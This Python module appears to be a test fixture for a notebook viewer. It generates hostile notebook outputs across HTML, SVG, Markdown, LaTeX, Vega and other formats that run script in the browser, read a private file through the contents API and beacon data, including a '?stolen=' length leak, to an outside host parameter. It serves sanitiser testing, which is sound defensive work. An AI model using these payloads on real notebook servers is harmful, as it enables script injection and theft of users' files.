"""Outputs that try to reach the viewer's files or to run in their browser."""

from __future__ import annotations

import json
from typing import Any

#: A file beside the notebooks that nobody but its owner is to read.
SECRET = "nobody-elses.txt"

_VEGA = "application/vnd.vega.v5+json"
_LITE = "application/vnd.vegalite.v5+json"


def bundles(elsewhere: str, base: str) -> dict[str, dict[str, Any]]:
    """Returns outputs by what they try."""
    own, far = f"{base}api/contents/{SECRET}?content=1", f"{elsewhere}/taken"
    script = f"window.pwned = true; fetch('{far}?script')"
    return {
        **_charts(own, far, script),
        "html": {"text/html": _html(own, far, script)},
        "markdown": {"text/markdown": _markdown(own, far)},
        "latex": {"text/latex": f"$$\\style{{background: url({far}?latex)}}{{x}}$$"},
        "svg": {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" '
            f'onload="{script}"><script>{script}</script><image href="{far}?svg" width="9" '
            'height="9"/><rect width="9" height="9" fill="green"/></svg>'
        },
        **_by_extensions(far, script),
    }


def _html(own: str, far: str, script: str) -> str:
    picture = f'<img src="{far}?img"><img src="{own}"><img srcset="{far}?srcset 1x">'
    return (
        f'<script>{script}</script><img src=x onerror="{script}">{picture}'
        f'<div style="background:url({far}?css);width:9px;height:9px">css</div>'
        f'<ul style="list-style-image:url({far}?list)"><li>list</li></ul>'
        f'<video src="{far}?video" autoplay poster="{far}?poster"></video>'
        f'<audio src="{far}?audio" autoplay></audio><picture><source srcset="{far}?source"></picture>'
        f'<iframe src="{far}?frame"></iframe><iframe srcdoc="<script>{script}</script>"></iframe>'
        f'<object data="{far}?object"></object><embed src="{far}?embed">'
        f'<link rel="stylesheet" href="{far}?link"><base href="{far}/">'
        f'<meta http-equiv="refresh" content="0;url={far}?refresh">'
        f'<style>@import url("{far}?import"); p {{background: url({far}?sheet)}}</style>'
        f'<form action="{far}?form"><input type="image" src="{far}?input"><button>go</button></form>'
        f'<table background="{far}?table"><tr><td background="{far}?cell">cell</td></tr></table>'
        f'<svg onload="{script}"><image href="{far}?svgimage"/><use href="{far}?use#a"/></svg>'
        f'<button data-commandlinker-command="apputils:notify" data-commandlinker-args="{{}}">do'
        f'</button><a href="javascript:{script}">js</a><a href="/logout">leave</a>'
    )


def _markdown(own: str, far: str) -> str:
    return (
        f"![far]({far}?md) ![own]({own}) <img src='{far}?mdhtml'>\n\n"
        f"$\\style{{background-image: url({far}?mathstyle)}}{{x}}$\n"
        f"$\\href{{javascript:window.pwned=true}}{{y}}$ $\\class{{jp-x}}{{z}}$\n\n"
        f'```mermaid\nflowchart TD\n A@{{ img: "{far}?mermaid", label: "a", w: 60, h: 60 }}\n'
        f" B[\"<img src='{far}?mermaidhtml'>\"]\n```\n"
    )


def _charts(own: str, far: str, script: str) -> dict[str, dict[str, Any]]:
    bars = [{"a": "x", "b": 28}, {"a": "y", "b": 55}]
    encoding = {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}
    bound = {
        "input": "text",
        "onfocus": script,
        "autofocus": "true",
        "type": "image",
        "src": f"{far}?bind",
    }
    cursor = {"cursor": {"value": f"url({far}?cursor), auto"}}
    files = {
        "width": 90,
        "height": 30,
        "data": [
            {"name": "own", "url": own, "format": {"type": "json"}},
            {"name": "sent", "url": {"signal": f"'{far}?stolen=' + length(data('own'))"}},
            {"name": "far", "url": f"{far}?vega"},
        ],
        "marks": [
            {"type": "image", "encode": {"enter": {"url": {"value": f"{far}?mark"}}}},
            {"type": "rect", "encode": {"enter": cursor}},
        ],
        "signals": [{"name": "s", "value": "v", "bind": bound}],
        "usermeta": {"embedOptions": {"config": f"{far}?config", "patch": f"{far}?patch"}},
    }
    return {
        "vega-files": {_VEGA: files},
        "vega-name": {_VEGA: f"{far}?spec"},
        "vegalite": {_LITE: {"data": {"url": own}, "mark": "bar", "encoding": encoding}},
        "chart": {_LITE: {"data": {"values": bars}, "mark": "bar", "encoding": encoding}},
    }


def _by_extensions(far: str, script: str) -> dict[str, dict[str, Any]]:
    return {
        "javascript": {"application/javascript": script, "text/plain": "javascript"},
        "geojson": {
            "application/geo+json": {"type": "Point", "coordinates": [1, 2]},
            "text/plain": "geojson",
        },
        "plotly": {
            "application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": far}]}},
            "text/plain": "plotly",
        },
        "other": {
            "application/vnd.tests.other+json": {"url": f"{far}?other"},
            "text/plain": "other",
        },
        "widget": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2},
            "text/plain": "widget",
        },
        "pdf": {"application/pdf": "JVBERi0xLjQK", "text/plain": "pdf"},
    }


def _book(outputs: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """Returns a notebook that has all outputs already, and says that it is trusted."""
    shown = [
        {"output_type": "display_data", "metadata": {}, "data": bundle}
        for bundle in outputs.values()
    ]
    trusted = {"trusted": True}
    code = {"cell_type": "code", "execution_count": 1, "metadata": trusted, "outputs": shown}
    text = {"cell_type": "markdown", "metadata": trusted}
    spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return {
        "nbformat": 4,
        "nbformat_minor": 4,
        "metadata": {"kernelspec": spec},
        "cells": [
            {**code, "source": "the_source = 'of the book'"},
            {**text, "source": outputs["markdown"]["text/markdown"]},
        ],
    }


def source(elsewhere: str, base: str) -> str:
    """Returns the code of a cell that leaves all of it, as outputs and as files."""
    outputs = bundles(elsewhere, base)
    files = {
        "page.html": outputs["html"]["text/html"],
        "text.md": outputs["markdown"]["text/markdown"],
        "chart.vl.json": json.dumps(outputs["vegalite"][_LITE]),
        "files.vg.json": json.dumps(outputs["vega-files"][_VEGA]),
        "place.geojson": json.dumps(outputs["geojson"]["application/geo+json"]),
        "picture.svg": outputs["svg"]["image/svg+xml"],
        "book.ipynb": json.dumps(_book(outputs)),
    }
    return "\n".join(
        [
            "import json, os, pathlib",
            "from IPython.display import display",
            f"for name, bundle in json.loads({json.dumps(outputs)!r}).items():",
            "    display(bundle, raw=True, metadata={'text/html': {'isolated': name == 'html'}})",
            "folder = pathlib.Path(os.environ['JUPYTER_BATCH_OUTPUT'])",
            f"for name, text in json.loads({json.dumps(files)!r}).items():",
            "    (folder / name).write_text(text)",
        ]
    )
